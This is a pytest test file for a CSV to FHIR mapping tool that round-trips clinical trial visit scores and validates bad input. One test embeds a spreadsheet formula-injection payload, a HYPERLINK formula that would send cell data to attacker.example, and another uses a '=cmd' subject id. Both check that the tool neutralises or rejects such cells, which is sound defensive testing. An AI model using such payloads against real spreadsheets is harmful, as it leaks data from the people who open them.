"""CSV ↔ FHIR for the data-capture export: checked rows, the writes a participant needs,
the table read back; lossless round trip, and bad input or bad data named."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fhir_bridge.domain.fhir import parse_model
from fhir_bridge.errors import MappingError
from fhir_bridge.mapping import Mappings, bundle_to_table, check_clinical, read_table
from fhir_bridge.mapping.columns import data_columns, header
from fhir_bridge.mapping.table_import import Participant, Write, enrolment, plan

MAP = "visit-scores"
STUDY = "ResearchStudy/psykforsk-mat-mdd"
SID = "https://fhir-bridge.org/fhir/sid"


def _csv(rows: list[list[str]], m: Mappings) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header(m.column_map(MAP), m))
    writer.writerows(rows)
    return out.getvalue()


def _row(
    m: Mappings,
    subject: str,
    visit: str,
    day: str,
    cells: dict[str, str] | None = None,
    status: str = "on-study",
) -> list[str]:
    cells = cells or {}
    return [subject, visit, day, status, ""] + [
        cells.get(n, "") for n, _, _ in data_columns(m.column_map(MAP), m)
    ]


def _madrs_cells(scores: list[int], total: int | None) -> dict[str, str]:
    cells = {f"madrs_{i}": str(s) for i, s in enumerate(scores, 1)}
    if total is not None:
        cells["madrs_total"] = str(total)
    return cells


def _enrolled(text: str, m: Mappings) -> list[Write]:
    """The writes of importing `text` into an empty server with enrolment."""
    rows = read_table(text, MAP, m)
    writes: list[Write] = []
    for subject in dict.fromkeys(r.subject for r in rows):
        mine = [r for r in rows if r.subject == subject]
        patient, enrol = enrolment(subject, mine[0].line, STUDY)
        more, issues = plan(mine, Participant(subject, patient, STUDY), m)
        assert issues == []
        writes += enrol + more
    return writes


def _bundle(writes: list[Write]) -> dict[str, Any]:
    return {"resourceType": "Bundle", "type": "transaction", "entry": [w.entry for w in writes]}


def _stored(writes: list[Write]) -> list[dict[str, Any]]:
    """The resources as a server stores them: ids given, urn references resolved."""
    ids: dict[str, str] = {}
    for n, w in enumerate(writes):
        assert w.entry is not None
        ids[w.entry["fullUrl"]] = f"{w.resource_type}/{n}"
    stored = []
    for w in writes:
        assert w.entry is not None
        resource = dict(w.entry["resource"])
        resource["id"] = ids[w.entry["fullUrl"]].split("/")[1]
        resource["meta"] = {**resource.get("meta", {}), "versionId": "1"}
        for key in ("subject", "encounter", "individual", "consent", "patient"):
            if key in resource and resource[key]["reference"] in ids:
                resource[key] = {"reference": ids[resource[key]["reference"]]}
        stored.append(resource)
    return stored


def _participant(stored: list[dict[str, Any]], subject: str) -> Participant:
    [rs] = [
        r
        for r in stored
        if r["resourceType"] == "ResearchSubject" and r["identifier"][0]["value"] == subject
    ]
    patient = rs["individual"]["reference"]
    mine = [r for r in stored if r.get("subject", {}).get("reference") == patient]
    return Participant(
        subject,
        patient,
        STUDY,
        [r for r in mine if r["resourceType"] == "Encounter"],
        [r for r in mine if r["resourceType"] == "Observation"],
    )


BASELINE = _madrs_cells([3] * 10, 30) | {
    "sds_1": "6",
    "sds_2": "7",
    "sds_3": "5",
    "sds_days_lost": "2",
    "sds_total": "18",
}


def test_csv_round_trip_is_lossless(m: Mappings) -> None:
    text = _csv(
        [
            _row(m, "S01", "baseline", "2023-02-01", BASELINE),
            _row(m, "S01", "post-treatment", "2023-05-03", _madrs_cells([1] * 9, None)),
            _row(m, "S02", "baseline", "2023-02-08", {"madrs_total": "27"}),
            _row(m, "S02", "dosing-1", "2023-02-15"),
        ],
        m,
    )
    assert bundle_to_table([_bundle(_enrolled(text, m))], MAP, m).text == text


def test_new_participant_is_enrolled_with_patient_consent_and_research_subject(
    m: Mappings,
) -> None:
    text = _csv([_row(m, "S01", "baseline", "2023-02-01", BASELINE)], m)
    writes = _enrolled(text, m)
    assert [(w.resource_type, w.action, w.line) for w in writes] == [
        ("Patient", "created", 2),
        ("Consent", "created", 2),
        ("ResearchSubject", "created", 2),
        ("Encounter", "created", 2),
        ("Observation", "created", 2),
        ("Observation", "created", 2),
    ]
    entries = [w.entry for w in writes if w.entry]
    assert len({e["fullUrl"] for e in entries}) == len(entries)
    assert [e["request"].get("ifNoneExist") for e in entries] == [
        f"identifier={SID}/study-subject|S01",
        f"identifier={SID}/consent|S01",
        f"identifier={SID}/study-subject|S01",
        f"identifier={SID}/visit-encounter|S01/baseline",
        f"identifier={SID}/score-observation|S01/baseline/madrs",
        f"identifier={SID}/score-observation|S01/baseline/sds",
    ]
    patient, consent, subject, encounter, madrs, _ = (e["resource"] for e in entries)
    assert subject["individual"]["reference"] == entries[0]["fullUrl"]
    assert subject["consent"]["reference"] == entries[1]["fullUrl"]
    assert consent["patient"]["reference"] == entries[0]["fullUrl"]
    assert encounter["subject"]["reference"] == madrs["subject"]["reference"]
    assert madrs["encounter"]["reference"] == entries[3]["fullUrl"]
    assert check_clinical(madrs, m) == [] and check_clinical(encounter, m) == []
    for resource in (patient, consent, subject, encounter, madrs):
        parse_model(resource)


def test_reimport_of_the_same_rows_writes_nothing(m: Mappings) -> None:
    text = _csv([_row(m, "S01", "baseline", "2023-02-01", BASELINE)], m)
    stored = _stored(_enrolled(text, m))
    writes, issues = plan(read_table(text, MAP, m), _participant(stored, "S01"), m)
    assert issues == []
    assert [(w.resource_type, w.action, w.entry) for w in writes] == [
        ("Encounter", "unchanged", None),
        ("Observation", "unchanged", None),
        ("Observation", "unchanged", None),
    ]


def test_changed_cell_updates_the_observation_it_came_from(m: Mappings) -> None:
    text = _csv([_row(m, "S01", "baseline", "2023-02-01", BASELINE)], m)
    stored = _stored(_enrolled(text, m))
    corrected = _madrs_cells([5] + [3] * 9, 32)
    again = _csv([_row(m, "S01", "baseline", "2023-02-01", BASELINE | corrected)], m)
    writes, issues = plan(read_table(again, MAP, m), _participant(stored, "S01"), m)
    assert issues == []
    [update] = [w for w in writes if w.action == "updated"]
    assert update.entry is not None
    [madrs] = [
        r for r in stored if r.get("identifier", [{}])[0].get("value") == "S01/baseline/madrs"
    ]
    assert update.entry["request"] == {
        "method": "PUT",
        "url": f"Observation/{madrs['id']}",
        "ifMatch": 'W/"1"',
    }
    resource = update.entry["resource"]
    assert resource["valueQuantity"]["value"] == 32 and resource["status"] == "amended"
    assert resource["identifier"] == madrs["identifier"]
    assert [w.action for w in writes].count("unchanged") == 2


def test_changed_score_derived_from_a_response_is_refused(m: Mappings) -> None:
    text = _csv([_row(m, "S01", "baseline", "2023-02-01", _madrs_cells([3] * 10, 30))], m)
    stored = _stored(_enrolled(text, m))
    for resource in stored:
        if resource["resourceType"] == "Observation":
            resource["derivedFrom"] = [{"reference": "QuestionnaireResponse/qr1"}]
    again = _csv([_row(m, "S01", "baseline", "2023-02-01", _madrs_cells([2] * 10, 20))], m)
    _, issues = plan(read_table(again, MAP, m), _participant(stored, "S01"), m)
    assert [(i.code, i.expression) for i in issues] == [("business-rule", "line 2")]
    assert "QuestionnaireResponse/qr1" in (issues[0].diagnostics or "")


def test_missing_total_with_every_item_is_computed(m: Mappings) -> None:
    text = _csv([_row(m, "S01", "baseline", "2023-02-01", _madrs_cells([3] * 10, None))], m)
    [row] = read_table(text, MAP, m)
    assert row.scores["madrs"].total == 30
    [madrs] = [w.entry for w in _enrolled(text, m) if w.resource_type == "Observation"]
    assert madrs is not None
    assert madrs["resource"]["valueQuantity"]["value"] == 30
    assert "dataAbsentReason" not in madrs["resource"]


def test_missing_total_with_a_missing_item_stays_absent(m: Mappings) -> None:
    text = _csv([_row(m, "S01", "baseline", "2023-02-01", _madrs_cells([3] * 9, None))], m)
    [row] = read_table(text, MAP, m)
    assert row.scores["madrs"].total is None


def _errors(text: str, m: Mappings, map_name: str = MAP) -> list[tuple[str, str | None]]:
    with pytest.raises(MappingError) as caught:
        read_table(text, map_name, m)
    return [(i.code, i.expression) for i in caught.value.issues]


def test_out_of_range_cell_names_file_line_and_column(m: Mappings) -> None:
    cells = _madrs_cells([3] * 10, None) | {"madrs_4": "7"}
    text = _csv(
        [_row(m, "S01", "baseline", "2023-02-01"), _row(m, "S02", "baseline", "2023-02-01", cells)],
        m,
    )
    assert _errors(text, m) == [("value", "line 3, column madrs_4")]


def test_total_differing_from_items_is_rejected(m: Mappings) -> None:
    text = _csv([_row(m, "S01", "baseline", "2023-02-01", _madrs_cells([3] * 10, 29))], m)
    assert _errors(text, m) == [("invariant", "line 2, column madrs_total")]


def test_unknown_visit_unknown_column_and_bad_date_are_rejected(m: Mappings) -> None:
    text = _csv([_row(m, "S01", "dosing-3", "2023-02-30")], m)
    assert _errors(text, m) == [
        ("code-invalid", "line 2, column visit"),
        ("value", "line 2, column visit_date"),
    ]
    assert _errors("subject_id,visit,visit_date,madrs_11\n", m) == [
        ("structure", "line 1, column madrs_11")
    ]


def test_formula_like_subject_id_is_rejected(m: Mappings) -> None:
    text = _csv([_row(m, "=cmd", "baseline", "2023-02-01")], m)
    assert _errors(text, m) == [("value", "line 2, column subject_id")]


def test_duplicate_participant_visit_row_is_rejected(m: Mappings) -> None:
    row = _row(m, "S01", "baseline", "2023-02-01")
    assert _errors(_csv([row, row], m), m) == [("business-rule", "line 3, column visit")]


def test_file_without_header_is_one_error(m: Mappings) -> None:
    text = _csv([_row(m, "S01", "baseline", "2023-02-01", BASELINE)], m).split("\n", 1)[1]
    assert _errors(text, m) == [("invalid", "line 1")]


def test_empty_file_and_header_only_file_are_errors(m: Mappings) -> None:
    assert _errors("", m) == [("invalid", "line 1")]
    assert _errors(_csv([], m), m) == [("invalid", "line 2")]


def test_unknown_column_map_names_the_known_ones(m: Mappings) -> None:
    with pytest.raises(MappingError) as caught:
        read_table("subject_id\n", "nope", m)
    [issue] = caught.value.issues
    assert issue.expression == "--map" and "visit-scores" in (issue.diagnostics or "")


def test_export_carries_status_and_withdrawal_date(m: Mappings) -> None:
    text = _csv([_row(m, "S01", "baseline", "2023-02-01", {"isi_total": "9"})], m)
    stored = _stored(_enrolled(text, m))
    for resource in stored:
        if resource["resourceType"] == "ResearchSubject":
            resource["status"] = "withdrawn"
            resource["period"] = {"start": "2023-01-01", "end": "2023-02-20"}
    table = bundle_to_table(stored, MAP, m)
    [line] = table.text.splitlines()[1:]
    assert line.split(",")[:5] == ["S01", "baseline", "2023-02-01", "withdrawn", "2023-02-20"]
    assert table.issues == []


def test_export_names_two_totals_for_one_visit_and_goes_on(m: Mappings) -> None:
    text = _csv(
        [
            _row(m, "S01", "baseline", "2023-02-01", BASELINE),
            _row(m, "S02", "baseline", "2023-02-08", {"madrs_total": "27"}),
        ],
        m,
    )
    stored = _stored(_enrolled(text, m))
    [madrs] = [
        r for r in stored if r.get("identifier", [{}])[0].get("value") == "S01/baseline/madrs"
    ]
    stored.append({**madrs, "id": "second", "identifier": []})
    table = bundle_to_table(stored, MAP, m)
    [issue] = table.issues
    assert issue.code == "duplicate" and "Observation/second" in (issue.diagnostics or "")
    lines = table.text.splitlines()
    cells = dict(zip(lines[0].split(","), lines[1].split(","), strict=True))
    assert cells["madrs_total"] == "" and cells["sds_total"] == "18"
    assert lines[2].startswith("S02,baseline,2023-02-08")


def test_export_names_an_encounter_without_study_subject_id_and_goes_on(m: Mappings) -> None:
    text = _csv(
        [
            _row(m, "S01", "baseline", "2023-02-01", BASELINE),
            _row(m, "S02", "baseline", "2023-02-08"),
        ],
        m,
    )
    stored = _stored(_enrolled(text, m))
    stored = [
        r
        for r in stored
        if not (r["resourceType"] == "ResearchSubject" and r["identifier"][0]["value"] == "S02")
    ]
    table = bundle_to_table(stored, MAP, m)
    [issue] = table.issues
    assert issue.code == "not-found" and (issue.expression or "").startswith("Encounter ")
    assert [line[:3] for line in table.text.splitlines()[1:]] == ["S01"]


def test_export_neutralises_formula_cells(m: Mappings) -> None:
    text = _csv([_row(m, "S01", "baseline", "2023-02-01", {"isi_total": "9"})], m)
    stored = _stored(_enrolled(text, m))
    attack = '=HYPERLINK("http://attacker.example/?leak="&C2,"open")'
    for resource in stored:
        if resource["resourceType"] == "ResearchSubject":
            resource["identifier"] = [{"system": f"{SID}/study-subject", "value": attack}]
    [row] = list(csv.reader(io.StringIO(bundle_to_table(stored, MAP, m).text)))[1:]
    assert row[0] == f"'{attack}"


@st.composite
def _tables(draw: st.DrawFn, m: Mappings) -> str:
    cmap = m.column_map(MAP)
    visits = [v.code for v in m.protocol.visits]
    keys = draw(
        st.lists(
            st.tuples(st.sampled_from(["S01", "S02", "S10", "P-7"]), st.sampled_from(visits)),
            unique=True,
            min_size=1,
            max_size=6,
        )
    )
    rows = []
    for subject, visit in keys:
        day = draw(st.dates()).isoformat()
        cells: dict[str, str] = {}
        for entry in cmap.instruments:
            if not draw(st.booleans()):
                continue
            spec = m.instrument(entry.instrument)
            values = {}
            for item in spec.items:
                if draw(st.integers(0, 4)) > 0:  # most items answered, some missing
                    values[item.link_id] = draw(st.integers(item.min, item.max))
            total = spec.score(values)  # a computable total is always there after import
            if total is None and draw(st.booleans()):
                total = draw(st.integers(spec.total.min, spec.total.max))
            for name, s, item in data_columns(cmap, m):
                if s is not spec:
                    continue
                value = total if item is None else values.get(item.link_id)
                if value is not None:
                    cells[name] = str(value)
        rows.append(((subject, day, visits.index(visit)), _row(m, subject, visit, day, cells)))
    # tables come back in canonical order: subject, visit date, protocol visit order
    return _csv([row for _, row in sorted(rows, key=lambda r: r[0])], m)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_generated_tables_round_trip_losslessly(m: Mappings, data: st.DataObject) -> None:
    text = data.draw(_tables(m))
    assert bundle_to_table([_bundle(_enrolled(text, m))], MAP, m).text == text
